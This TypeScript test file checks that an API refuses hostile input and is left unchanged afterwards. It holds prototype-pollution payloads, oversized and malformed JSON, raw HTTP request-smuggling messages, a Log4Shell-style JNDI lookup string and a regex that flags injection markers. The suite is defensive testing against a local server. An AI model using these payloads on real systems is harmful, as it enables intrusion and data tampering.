// One file: every way an input can be wrong, over all routes; the list is read as a whole.
import { createHash } from 'node:crypto';
import { existsSync, readdirSync } from 'node:fs';
import { connect } from 'node:net';
import { canonicalJson, commitment, problemKinds } from '#lib/kernel';
import type { Signed } from '../journeys/city';
import { aRunningCity, type RunningCity } from '../support/city.fixture';
import { addressOf, bodiesOf, type Json, type Objects, objectsOf, type Route, routesOf, send } from './bodies';
import { bigList, FILES, hostileFiles, NAUGHTY } from './naughty';

let city: RunningCity;
let objects: Objects;
let routes: Route[];
let bodyOf: (route: Route) => Json;
const doers: { signed: Signed; permissions: Set<string> }[] = [];

beforeAll(async () => {
  city = await aRunningCity();
  objects = await objectsOf(city);
  bodyOf = await bodiesOf(city, objects);
  routes = (await routesOf(city)).filter(({ gate }) => !gate);
  for (const name of [
    'karla.mauer',
    'ida.stein',
    'emil.fach',
    'olga.dach',
    'theo.satz',
    'xenia.konto',
    'willi.pruefer',
    'rosa.mond',
  ]) {
    const signed = await city.as(name);
    const { body } = await signed.get<{ permissions: string[] }>('/v1/me');
    doers.push({ signed, permissions: new Set(body.permissions) });
  }
}, 90_000);
afterAll(() => city?.close());

/** Somebody whom the guard lets through to the body of this route. */
const doer = ({ may }: Route): string | null =>
  doers.find(({ permissions }) => permissions.has(may))?.signed.token ?? null;
const withBody = (): Route[] => routes.filter((route) => route.body && doer(route));
const defined = (status: number, code: string | undefined): boolean =>
  status < 400 ? true : status < 500 && problemKinds().get(code ?? '')?.status === status;

/** Runs the work for every item, a few at a time. */
async function each<T>(items: readonly T[], work: (item: T) => Promise<void>): Promise<void> {
  const waiting = [...items];
  const next = async (): Promise<void> => {
    for (let item = waiting.shift(); item !== undefined; item = waiting.shift()) await work(item);
  };
  await Promise.all(Array.from({ length: 6 }, next));
}

/** Every object inside a value, with its path. */
function objectsIn(value: unknown, path: (string | number)[] = []): (string | number)[][] {
  if (Array.isArray(value)) return value.flatMap((item, i) => objectsIn(item, [...path, i]));
  if (typeof value !== 'object' || value === null) return [];
  return [path, ...Object.entries(value).flatMap(([key, member]) => objectsIn(member, [...path, key]))];
}
function textsIn(value: unknown, path: (string | number)[] = []): (string | number)[][] {
  if (typeof value === 'string') return [path];
  if (typeof value !== 'object' || value === null) return [];
  return Object.entries(value).flatMap(([key, member]) =>
    textsIn(member, [...path, Array.isArray(value) ? Number(key) : key]),
  );
}
const at = (value: unknown, path: (string | number)[]): Json =>
  path.reduce<unknown>((inner, step) => (inner as Json)[step], value) as Json;
function namesIn(schema: unknown): string[] {
  if (typeof schema !== 'object' || schema === null) return [];
  const { properties } = schema as Json;
  return [
    ...(typeof properties === 'object' && properties ? Object.keys(properties) : []),
    ...Object.values(schema).flatMap(namesIn),
  ];
}

describe('fields that nobody may set (79)', () => {
  const INJECTED = [
    'status',
    'state',
    'officeId',
    'providerUnitId',
    'approvedBy',
    'releasedBy',
    'revision',
    'id',
    'createdAt',
    'decision',
  ];
  const text = (body: unknown): string =>
    JSON.stringify(body)
      .replace('"@proto":0', '"__proto__":{"state":"APPROVED"}')
      .replace('"@constructor":0', '"constructor":{"prototype":{"state":"APPROVED"}}');

  it('are refused in every object of every body, and nothing is done', async () => {
    const before = await city.everything();
    const tries = withBody().flatMap((route) => {
      const body = bodyOf(route);
      const top = Object.keys(route.body?.properties ?? {});
      const anywhere = namesIn(route.body);
      return objectsIn(body).flatMap((path) =>
        [...INJECTED, '@proto', '@constructor']
          .filter((name) => !(path.length === 0 ? top : anywhere).includes(name))
          .map((name) => ({ route, path, name })),
      );
    });
    expect(tries.length).toBeGreaterThan(250);
    const deviations: string[] = [];
    // all names in every body; inside it every third pair, which still meets each object and each name
    const chosen = tries.filter(({ path }, i) => path.length === 0 || i % 3 === 0);
    await each(chosen, async ({ route, path, name }) => {
      const body = bodyOf(route);
      at(body, path)[name] = name.startsWith('@') ? 0 : 'APPROVED';
      const { status, code } = await send(city, route, addressOf(route, objects), doer(route), text(body));
      const wanted = name.startsWith('@') ? '400 request_malformed' : '422 validation_failed';
      if (`${status} ${code}` !== wanted)
        deviations.push(`${route.method} ${route.path} /${path.join('/')} ${name}: ${status} ${code}`);
    });
    expect(deviations).toEqual([]);
    expect(await city.everything()).toEqual(before);
  }, 60_000);

  it('are refused in the address too', async () => {
    const before = await city.everything();
    for (const route of routes.filter(
      ({ method, may, path }) => method === 'GET' && may !== 'public' && !path.startsWith('/audit/'),
    )) {
      const token = doer(route);
      for (const name of ['state=APPROVED%00', '__proto__=x', '__proto__[state]=x', 'officeId=x&officeId=y']) {
        const { status, code } = await send(city, route, `${addressOf(route, objects)}?${name}`, token);
        // a route that reads no query ignores it, except for what can not be read in one way
        expect([route.path, name, defined(status, code)]).toEqual([route.path, name, true]);
        if (!name.startsWith('__proto__['))
          expect([route.path, name, status]).toEqual([route.path, name, status < 400 ? 0 : status]);
      }
    }
    expect(await city.everything()).toEqual(before);
  });
});

describe('hostile JSON (92)', () => {
  const nested = (depth: number): string => `${'{"a":'.repeat(depth)}1${'}'.repeat(depth)}`;
  const keys = (count: number): string =>
    `{${Array.from({ length: count }, (_, i) => `"${i.toString(36)}":1`).join(',')}}`;
  it.each<[string, () => string | Buffer, number, string]>([
    ['10 000 levels of objects', () => nested(10_000), 400, 'request_malformed'],
    ['500 000 levels of lists', () => '['.repeat(500_000) + ']'.repeat(500_000), 400, 'request_malformed'],
    ['100 001 keys', () => keys(100_001), 400, 'request_malformed'],
    ['a million keys', () => keys(1_000_000), 413, 'payload_too_large'],
    ['5 MB of text', () => `{"title":"${'x'.repeat(5_000_000)}"}`, 413, 'payload_too_large'],
    ['no number', () => '{"revision":NaN}', 400, 'request_malformed'],
    ['an endless number', () => '{"revision":1e999}', 422, 'validation_failed'],
    ['a number nobody can count to', () => '{"revision":9007199254740993}', 422, 'validation_failed'],
    ['half a character', () => '{"title":"\\ud800"}', 422, 'validation_failed'],
    ['NUL as an escape', () => '{"title":"a\\u0000b"}', 422, 'validation_failed'],
    [
      'bytes that are no text',
      () => Buffer.concat([Buffer.from('{"title":"'), Buffer.from([0xff, 0xfe, 0xc3]), Buffer.from('"}')]),
      422,
      'validation_failed',
    ],
    ['the same key twice', () => '{"title":"a","title":"b"}', 422, 'validation_failed'],
    ['a comma too much', () => '{"title":"a",}', 400, 'request_malformed'],
    ['nothing', () => '', 400, 'request_malformed'],
    ['null', () => 'null', 422, 'validation_failed'],
    ['a list', () => '[]', 422, 'validation_failed'],
    ['a prototype in disguise', () => '{"\\u005f_proto__":{"a":1}}', 400, 'request_malformed'],
  ])('%s', async (_, body, status, code) => {
    const before = await city.everything();
    const response = await fetch(`${city.api}/v1/products`, {
      method: 'POST',
      headers: { authorization: `Bearer ${(await city.as('karla.mauer')).token}`, 'content-type': 'application/json' },
      body: new Uint8Array(Buffer.from(body())),
    });
    expect([response.status, ((await response.json()) as Json).code]).toEqual([status, code]);
    expect(await city.everything()).toEqual(before);
  });

  it.each([
    'text/plain',
    'application/xml',
    'application/x-www-form-urlencoded',
    'application/json; charset=utf-16',
    'multipart/form-data',
    'application/JSON;;',
    'x',
  ])('as %s is not taken for JSON', async (type) => {
    const before = await city.everything();
    const response = await fetch(`${city.api}/v1/agreements/${objects.agreement}/revocation`, {
      method: 'POST',
      headers: { authorization: `Bearer ${(await city.as('ida.stein')).token}`, 'content-type': type },
      body: '\uFEFF{"reason":"aus Versehen"',
    });
    const { code } = (await response.json()) as { code: string };
    expect([type, defined(response.status, code), response.status >= 400]).toEqual([type, true, true]);
    expect(await city.everything()).toEqual(before);
  });
});

describe('what two readers could read differently (93)', () => {
  /** Writes bytes to the API and gives everything that comes back until it closes or falls silent. */
  const raw = (text: string): Promise<string> =>
    new Promise((resolve) => {
      const socket = connect(Number(new URL(city.api).port), '127.0.0.1', () => socket.write(text));
      let answer = '';
      socket.setTimeout(500, () => socket.destroy());
      socket.on('data', (data) => (answer += data.toString('latin1')));
      socket.on('error', () => undefined);
      socket.on('close', () => resolve(answer));
    });
  const lines = (...all: string[]): string => `${all.join('\r\n')}\r\n\r\n`;
  const body = '{"reason":"geschmuggelt"}';

  it.each<[string, (auth: string, path: string) => string, number]>([
    [
      'length and chunking together',
      (auth, path) =>
        `${lines(`POST ${path} HTTP/1.1`, 'Host: api', auth, 'Content-Type: application/json', `Content-Length: ${body.length}`, 'Transfer-Encoding: chunked')}0\r\n\r\n${body}`,
      400,
    ],
    [
      'two lengths',
      (auth, path) =>
        lines(
          `POST ${path} HTTP/1.1`,
          'Host: api',
          auth,
          'Content-Type: application/json',
          `Content-Length: ${body.length}`,
          'Content-Length: 0',
        ) + body,
      400,
    ],
    [
      'an obscured coding',
      (auth, path) =>
        lines(
          `POST ${path} HTTP/1.1`,
          'Host: api',
          auth,
          'Content-Type: application/json',
          'Transfer-Encoding: xchunked',
        ) + body,
      400,
    ],
    [
      'a blank before the colon',
      (auth, path) =>
        lines(
          `POST ${path} HTTP/1.1`,
          'Host: api',
          auth,
          'Content-Type: application/json',
          `Content-Length : ${body.length}`,
        ) + body,
      400,
    ],
    [
      'a line that goes on',
      (auth, path) => lines(`POST ${path} HTTP/1.1`, 'Host: api', auth, 'X: a', ' Content-Length: 3') + body,
      400,
    ],
    [
      'two tokens',
      (auth, path) =>
        lines(
          `POST ${path} HTTP/1.1`,
          'Host: api',
          auth,
          'Authorization: Bearer x',
          'Content-Type: application/json',
          `Content-Length: ${body.length}`,
        ) + body,
      400,
    ],
    [
      'two types',
      (auth, path) =>
        lines(
          `POST ${path} HTTP/1.1`,
          'Host: api',
          auth,
          'Content-Type: application/json',
          'Content-Type: text/plain',
          `Content-Length: ${body.length}`,
        ) + body,
      400,
    ],
    [
      'two hosts',
      (auth, path) =>
        lines(
          `POST ${path} HTTP/1.1`,
          'Host: api',
          'Host: other',
          auth,
          'Content-Type: application/json',
          `Content-Length: ${body.length}`,
        ) + body,
      400,
    ],
    [
      'no host',
      (auth, path) =>
        lines(`POST ${path} HTTP/1.1`, auth, 'Content-Type: application/json', `Content-Length: ${body.length}`) + body,
      400,
    ],
    ['TRACE', (auth, path) => lines(`TRACE ${path} HTTP/1.1`, 'Host: api', auth), 405],
    [
      'a method in a field',
      (auth, path) => lines(`GET ${path} HTTP/1.1`, 'Host: api', auth, 'X-HTTP-Method-Override: POST'),
      405,
    ],
    ['a method nobody knows', (auth, path) => lines(`SPY ${path} HTTP/1.1`, 'Host: api', auth), 400],
    [
      'too long a head',
      (auth, path) => lines(`POST ${path} HTTP/1.1`, 'Host: api', auth, `X: ${'a'.repeat(70_000)}`),
      431,
    ],
    [
      'too many fields',
      (auth, path) =>
        lines(`POST ${path} HTTP/1.1`, 'Host: api', ...Array.from({ length: 3_000 }, (_, i) => `X-${i}: 1`), auth),
      431,
    ],
  ])('%s is no request', async (_, text, status) => {
    const before = await city.everything();
    const answer = await raw(
      text(
        `Authorization: Bearer ${(await city.as('ida.stein')).token}`,
        `/v1/agreements/${objects.agreement}/revocation`,
      ),
    );
    expect(answer).toMatch(new RegExp(`^HTTP/1\\.1 ${status} `));
    expect(answer).toContain('application/problem+json');
    expect(answer.match(/^HTTP\/1\.1 /gm)).toHaveLength(1);
    expect(await city.everything()).toEqual(before);
  });
});

describe('a bad file', () => {
  const uploads = (): string[] => {
    const folder = city.db.config.objectStoreDir;
    return existsSync(folder) ? readdirSync(folder, { recursive: true, encoding: 'utf8' }).sort() : [];
  };
  const upload = async (form: FormData | string, headers: Record<string, string> = {}) => {
    const response = await fetch(`${city.api}/v1/products/${objects.product}/uploads`, {
      method: 'POST',
      headers: { authorization: `Bearer ${(await city.as('karla.mauer')).token}`, ...headers },
      body: form,
    });
    return { status: response.status, body: (await response.json()) as Json & { code?: string; uploadId?: string } };
  };

  it('is refused by name, or shown with its faults and then refused; nothing of it stays', async () => {
    const karla = await city.as('karla.mauer');
    for (const [what, content, name] of [...FILES, ...hostileFiles()]) {
      const [before, files, attempts] = [await city.everything(), uploads(), await city.refused()];
      const form = new FormData();
      form.set('file', new Blob([new Uint8Array(Buffer.from(content()))], { type: 'text/csv' }), name ?? 'tabelle.csv');
      const { status, body } = await upload(form);
      expect([what, defined(status, body.code), body.code ?? '']).toEqual([what, true, body.code ?? '']);
      if (status >= 400) {
        expect([what, await city.everything(), uploads(), await city.refused()]).toEqual([
          what,
          before,
          files,
          attempts + 1,
        ]);
        continue;
      }
      const [shown, kept] = [await city.everything(), uploads()];
      const confirmed = await karla.post(`/v1/products/${objects.product}/versions`, { uploadId: body.uploadId });
      expect([what, defined(confirmed.status, confirmed.body.code)]).toEqual([what, true]);
      if (confirmed.status >= 400)
        expect([what, await city.everything(), uploads(), await city.refused()]).toEqual([
          what,
          shown,
          kept,
          attempts + 1,
        ]);
    }
  }, 120_000);

  it.each<[string, () => [FormData | string, Record<string, string>]]>([
    ['no file at all', () => [new FormData(), {}]],
    [
      'a form that ends in the middle',
      () => [
        '--x\r\nContent-Disposition: form-data; name="file"; filename="a.csv"\r\n\r\na;b\r\n1;2',
        { 'content-type': 'multipart/form-data; boundary=x' },
      ],
    ],
    ['no boundary', () => ['a;b\n1;2\n', { 'content-type': 'multipart/form-data' }]],
    ['another type', () => ['a;b\n1;2\n', { 'content-type': 'text/csv' }]],
    [
      'hints that are no JSON',
      () => {
        const form = new FormData();
        form.set('hints', '{');
        form.set('file', new Blob(['a;b\n1;2\n']), 'a.csv');
        return [form, {}];
      },
    ],
    [
      'hints that reach into prototypes',
      () => {
        const form = new FormData();
        form.set('hints', '{"__proto__":{"encoding":"x"}}');
        form.set('file', new Blob(['a;b\n1;2\n']), 'a.csv');
        return [form, {}];
      },
    ],
    [
      'hints nested without end',
      () => {
        const form = new FormData();
        form.set('hints', `${'['.repeat(40_000)}${']'.repeat(40_000)}`);
        form.set('file', new Blob(['a;b\n1;2\n']), 'a.csv');
        return [form, {}];
      },
    ],
  ])('a form with %s has a defined answer and leaves nothing', async (what, make) => {
    const [before, files] = [await city.everything(), uploads()];
    const { status, body } = await upload(...make());
    expect([what, status >= 400, defined(status, body.code)]).toEqual([what, true, true]);
    expect([await city.everything(), uploads()]).toEqual([before, files]);
  });
});

describe('hostile text (92)', () => {
  it('in any text field of any body has a defined answer', async () => {
    const tries = withBody()
      .flatMap((route) =>
        textsIn(bodyOf(route)).flatMap((path) => NAUGHTY.map(([what, text]) => ({ route, path, what, text }))),
      )
      .filter((_, i) => i % 7 === 0);
    // every seventh of all pairs: each text meets many fields, each field many texts, and the next run the same
    expect(tries.length).toBeGreaterThan(200);
    const deviations: string[] = [];
    await each(tries, async ({ route, path, what, text }) => {
      const body = bodyOf(route);
      at(body, path.slice(0, -1))[path.at(-1)!] = text;
      const { status, code } = await send(city, route, addressOf(route, objects), doer(route), body);
      if (!defined(status, code))
        deviations.push(`${route.method} ${route.path} /${path.join('/')} ${what}: ${status} ${code}`);
    });
    expect(deviations).toEqual([]);
  }, 60_000);

  it('in any parameter and in any id has a defined answer', async () => {
    const document = (await (await fetch(`${city.api}/v1/openapi.json`)).json()) as {
      paths: Record<string, Record<string, { parameters?: { name: string; in: string }[] }>>;
    };
    const tries = routes
      .filter(({ method, may }) => method === 'GET' && may !== 'public')
      .flatMap((route) => {
        const named =
          document.paths[route.path]?.get?.parameters?.filter((one) => one.in === 'query').map(({ name }) => name) ??
          [];
        const address = route.path.startsWith('/audit/')
          ? route.path.replace('{year}', '2026').replace('{path}', '0/000')
          : addressOf(route, objects);
        return NAUGHTY.filter(([, text]) => text.length < 5_000 && text.isWellFormed()).flatMap(([what, text]) => [
          ...named.map((name) => ({ route, what, address: `${address}?${name}=${encodeURIComponent(text)}` })),
          ...(route.path.includes('{id}')
            ? [{ route, what, address: route.path.replace('{id}', encodeURIComponent(text)).replace(/\{\w+\}/g, 'x') }]
            : []),
        ]);
      })
      .filter((_, i) => i % 3 === 0);
    expect(tries.length).toBeGreaterThan(150);
    const deviations: string[] = [];
    await each(tries, async ({ route, what, address }) => {
      const { status, code } = await send(city, route, address, doer(route));
      if (!defined(status, code)) deviations.push(`${address.slice(0, 80)} ${what}: ${status} ${code}`);
    });
    expect(deviations).toEqual([]);
  });

  it('is kept as it was sent, or refused by name', async () => {
    const karla = await city.as('karla.mauer');
    const texts = [...NAUGHTY.map(([, text]) => text), ...bigList().filter((_, i) => i % 4 === 0)];
    const same = (text: string): string =>
      text
        .replaceAll('\r\n', '\n')
        .replace(/[\uFE0E\uFE0F]/g, '')
        .normalize('NFC')
        .replace(/\p{Zs}/gu, ' ')
        .trim();
    const deviations: string[] = [];
    let kept = 0;
    await each(texts, async (text) => {
      const made = await karla.post<{ productId: string }>('/v1/products', {
        providerUnitId: objects.hochbauamt,
        title: 'Text',
        summary: 'Probe',
        description: text,
      });
      if (made.status === 422) return;
      if (made.status !== 201)
        return void deviations.push(`${JSON.stringify(text).slice(0, 60)}: ${made.status} ${made.body.code}`);
      const { body } = await karla.get<{ description: string }>(`/v1/products/${made.body.productId}`);
      kept += 1;
      if (body.description !== same(text))
        deviations.push(`${JSON.stringify(text).slice(0, 60)} became ${JSON.stringify(body.description).slice(0, 60)}`);
    });
    expect(deviations).toEqual([]);
    expect(kept).toBeGreaterThan(texts.length / 2);
  }, 60_000);

  it('one name in two spellings is one name', async () => {
    const karla = await city.as('karla.mauer');
    const ids = await Promise.all(
      ['Grün\u0308e', 'Gr\u00FCn\u0308e'].map(
        async (title) =>
          (
            await karla.must<{ productId: string }>('POST', '/v1/products', {
              providerUnitId: objects.hochbauamt,
              title: title.normalize('NFD'),
              summary: 'x',
            })
          ).productId,
      ),
    );
    const titles = await Promise.all(
      ids.map(async (id) => (await karla.must<{ title: string }>('GET', `/v1/products/${id}`)).title),
    );
    expect(new Set(titles).size).toBe(1);
  });
});

describe('the record of all this (94)', () => {
  it('keeps a reason beside the log as it was written, and refuses one with signs nobody sees by name', async () => {
    const reason = `Zeile 1\nZeile 2 \${jndi:ldap://example.org/x} ${'ß'.repeat(4_800)}`;
    const [ida, emil] = [await city.as('ida.stein'), await city.as('emil.fach')];
    const { id: requestId } = await emil.must<{ id: string }>(
      'POST',
      '/v1/requests',
      await city.form('gebaeudedatenkataster', 'gruenflaechenamt'),
    );
    await city.settle();
    const { id } = await city.one<{ id: string }>('SELECT id FROM agreements.agreement WHERE request_id = $1', [
      requestId,
    ]);
    expect((await ida.post(`/v1/agreements/${id}/revocation`, { reason: `${reason}\u001b[31m` })).status).toBe(422);
    expect((await ida.post(`/v1/agreements/${id}/revocation`, { reason: `${reason}\u202Egnal` })).status).toBe(422);
    expect((await ida.post(`/v1/agreements/${id}/revocation`, { reason: 'x'.repeat(70_000) })).status).toBe(422);
    expect((await ida.post(`/v1/agreements/${id}/revocation`, { reason })).status).toBe(200);
    const kept = await city.one<{ end_reason: string }>('SELECT end_reason FROM agreements.agreement WHERE id = $1', [
      id,
    ]);
    expect(kept.end_reason).toBe(reason);
  });

  it('holds for every event: leaf, hash, columns and commitments fit, and no leaf carries what people wrote', async () => {
    const events = await city.rows<{ event_id: string; type: string; leaf: Buffer; leaf_hash: Buffer; facts: Json }>(
      'SELECT event_id, type, leaf, leaf_hash, facts FROM kernel.audit_event',
    );
    const clear = await city.rows<{ event_id: string; field: string; value: string; salt: Buffer }>(
      'SELECT event_id, field, value, salt FROM kernel.audit_clear',
    );
    expect(events.length).toBeGreaterThan(500);
    const leaves = new Map<string, { commitments: Record<string, string> }>();
    for (const { event_id, type, leaf, leaf_hash, facts } of events) {
      const text = leaf.toString('utf8');
      const parsed = JSON.parse(text) as { id: string; type: string; facts: Json; commitments: Record<string, string> };
      const hash = createHash('sha256')
        .update(Buffer.concat([Buffer.of(0), leaf]))
        .digest();
      const fits =
        hash.equals(leaf_hash) &&
        parsed.id === event_id &&
        parsed.type === type &&
        canonicalJson(parsed) === text &&
        canonicalJson(parsed.facts) === canonicalJson(facts) &&
        leaf.length <= 65_535;
      if (!fits || /jndi|DROP TABLE|\u202E|<script|Eine sachliche/.test(text))
        throw new Error(`${type} ${event_id}: ${text.slice(0, 300)}`);
      leaves.set(event_id, parsed);
    }
    const wrong = clear.filter(
      ({ event_id, field, value, salt }) => leaves.get(event_id)?.commitments[field] !== commitment(salt, field, value),
    );
    expect(wrong.map(({ event_id, field }) => `${event_id} ${field}`)).toEqual([]);
  });

  it('and the API still answers as on the first day', async () => {
    expect((await fetch(`${city.api}/health`)).status).toBe(200);
    expect(({} as { state?: string }).state).toBe(undefined);
    expect(
      await (await city.as('emil.fach')).must<{ state: string }>('GET', `/v1/requests/${objects.permitted}`),
    ).toMatchObject({ state: 'PERMITTED' });
  });
});
